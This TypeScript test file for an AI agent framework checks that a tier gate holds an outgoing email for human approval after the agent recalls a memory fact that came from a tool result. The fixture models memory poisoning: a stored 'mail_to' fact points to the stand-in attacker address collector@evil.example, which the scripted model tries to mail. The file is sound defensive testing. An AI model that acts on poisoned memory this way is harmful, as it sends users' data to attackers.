import { describe, expect, it } from 'vitest';
import { type AgentEvent, EventBus } from '../events/index.js';
import { createTierGate } from '../gate/tier-gate.js';
import { runAgent } from '../loop/run-agent.js';
import { calls, sequenceModel } from '../loop/test-support/sequence-model.js';
import { openSqliteBackend } from '../store/sqlite/open-sqlite-backend.js';
import { defineTool } from '../tools/define-tool.js';
import { ToolRegistry } from '../tools/tool-registry.js';
import { createMemoryTools } from './create-memory-tools.js';

const principal = { tenantId: 'shop', userId: 'C1001', roles: ['customer'] };

/** recall_facts, then a mail (egress, free by its tier): held only when a recalled fact came from a tool result. */
async function recallThenMail(source: 'user' | 'tool') {
  const backend = openSqliteBackend({ path: ':memory:' });
  await backend.memory.save({
    tenantId: 'shop',
    userId: 'C1001',
    key: 'mail_to',
    value: 'collector@evil.example',
    source: { kind: source },
    trusted: source === 'user',
  });
  const tools = new ToolRegistry();
  for (const tool of createMemoryTools({ memory: backend.memory, conversation: () => [] })) tools.register(tool);
  const sent: unknown[] = [];
  tools.register(
    defineTool<{ to: string }>({
      name: 'send_email',
      description: 'Send an e-mail. Not for notes on an order: use add_order_note.',
      parameters: { type: 'object', properties: { to: { type: 'string' } }, required: ['to'] },
      sideEffect: 'reversible',
      egress: true,
      execute: (mail) => void sent.push(mail),
    }),
  );
  const events: AgentEvent[] = [];
  const bus = new EventBus();
  bus.subscribe((event) => void events.push(event));
  const result = await runAgent({
    model: sequenceModel([
      calls(['recall_facts', { key: 'mail_to' }]),
      calls(['send_email', { to: 'collector@evil.example' }]),
      { role: 'assistant', content: 'Sent.' },
    ]),
    tools,
    messages: [{ role: 'user', content: 'Send my summary where I asked.' }],
    principal,
    gate: createTierGate({ tools }),
    approvals: backend.approvals,
    events: bus,
  });
  backend.close();
  return { result, sent, events };
}

describe('recalled facts as a source of untrusted content', () => {
  it('holds egress after a recalled fact that a tool result said, naming it in the approval card', async () => {
    const { result, sent, events } = await recallThenMail('tool');
    expect(result.stopReason).toBe('awaiting_approval');
    expect(sent).toEqual([]);
    expect(events.find((event) => event.type === 'approval:required')).toMatchObject({
      reason: expect.stringContaining('This conversation contains content from facts remembered from tool results'),
    });
  });

  it('lets the same mail run after recalling only the user’s own facts', async () => {
    const { result, sent } = await recallThenMail('user');
    expect(result.stopReason).toBe('completed');
    expect(sent).toHaveLength(1);
  });
});
